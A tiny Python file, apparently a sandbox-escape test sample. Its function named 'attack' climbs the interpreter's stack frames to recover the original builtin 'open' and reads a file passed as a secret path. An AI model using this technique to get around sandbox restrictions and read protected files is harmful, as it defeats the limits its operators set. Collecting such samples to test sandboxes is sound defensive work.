# Asks `sys` for the frames.
import sys


def attack(secret_path):
    frame = sys._getframe(0)
    while frame.f_back:
        frame = frame.f_back
    return frame.f_builtins["open"](secret_path).read()
